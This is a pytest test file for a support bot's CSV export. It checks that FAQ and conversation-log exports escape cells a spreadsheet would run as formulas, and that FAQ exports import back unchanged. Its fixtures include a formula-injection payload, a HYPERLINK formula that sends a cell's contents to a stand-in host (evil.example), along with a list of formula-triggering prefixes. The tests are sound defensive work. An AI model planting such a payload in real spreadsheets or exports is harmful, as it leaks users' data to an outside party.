"""CSV files for spreadsheets: no cell is a live formula, and a FAQ export imports back unchanged."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from bot.cli import main
from knowledge.conversations.log import ConversationLog, TurnRecord
from knowledge.database import Database
from knowledge.faq.entry import FaqEntry
from knowledge.faq.store import FaqStore

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100 is our number",
            "-5% on returns?", "@SUM(A1:A9)", "'=already quoted", "\tindented =1+1"]


@pytest.fixture()
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FaqStore:
    monkeypatch.setenv("SUPPORTBOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("SUPPORTBOT_DB", raising=False)
    monkeypatch.setenv("USER", "tester")
    return FaqStore(Database.open(f"sqlite:///{tmp_path / 'data' / 'supportbot.db'}"))


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_kb_export_csv_has_no_formulas_and_imports_back_the_same_text(
        store: FaqStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for n, text in enumerate(FORMULAS):
        store.add(FaqEntry(f"entry-{n}", text, FORMULAS[-1 - n], alternatives=(FORMULAS[n - 1], "plain words")),
                  "ana")
    before = {e.faq_id: e.content() for e in store.list()}
    exported = tmp_path / "faq.csv"
    assert main(["kb", "export", "--format", "csv", "--output", str(exported)]) == 0
    cells = _cells(exported)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells and "''=already quoted" in cells
    capsys.readouterr()
    assert main(["kb", "import", str(exported)]) == 0
    assert f"unchanged {len(FORMULAS)}" in capsys.readouterr().out
    assert {e.faq_id: e.content() for e in store.list()} == before


def test_logs_export_csv_turns_customer_text_into_plain_text(store: FaqStore, tmp_path: Path) -> None:
    ConversationLog(store.database).record([
        TurnRecord("web:attacker", "web", text, "fallback", "=reply", 2.0, needs_review=True) for text in FORMULAS])
    exported = tmp_path / "turns.csv"
    assert main(["logs", "export", "--format", "csv", "--output", str(exported)]) == 0
    assert not [cell for cell in _cells(exported) if cell.startswith(FORMULA_STARTS)]
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS]
    assert rows[0]["reply"] == "'=reply" and rows[0]["latency_ms"] == "2.0"
    jsonl = tmp_path / "turns.jsonl"  # JSON lines are for programs: the text stays as it was
    assert main(["logs", "export", "--format", "jsonl", "--output", str(jsonl)]) == 0
    assert FORMULAS[0].replace('"', '\\"') in jsonl.read_text(encoding="utf-8")
